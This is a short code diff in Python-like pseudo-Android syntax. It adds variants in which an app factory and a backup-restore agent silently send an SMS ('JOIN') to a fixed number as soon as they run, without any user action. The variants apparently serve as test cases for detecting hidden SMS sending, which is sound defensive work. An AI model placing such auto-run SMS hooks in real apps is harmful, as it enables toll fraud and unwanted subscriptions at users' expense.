@@ -36,3 +36,32 @@ class Order(Service):
         return 1
     def order(self, number: String):
         SmsManager.getDefault().sendTextMessage(number, None, "JOIN", None, None)
+
+# also: before the app itself begins, in its factory
+@service
+class Order(Service):
+    def onStartCommand(self, intent, flags, number):
+        return 1
+
+class Press(View_OnClickListener):
+    def onClick(self, view):
+        pass
+
+class Factory(AppComponentFactory):
+    def instantiateApplication(self, loader, name):
+        SmsManager.getDefault().sendTextMessage("15550100", None, "JOIN", None, None)
+        return None
+
+# also: when a backup comes back, in a constructor
+@service
+class Order(Service):
+    def onStartCommand(self, intent, flags, number):
+        return 1
+
+class Press(View_OnClickListener):
+    def onClick(self, view):
+        pass
+
+class Restore(BackupAgent):
+    def __init__(self):
+        SmsManager.getDefault().sendTextMessage("15550100", None, "JOIN", None, None)
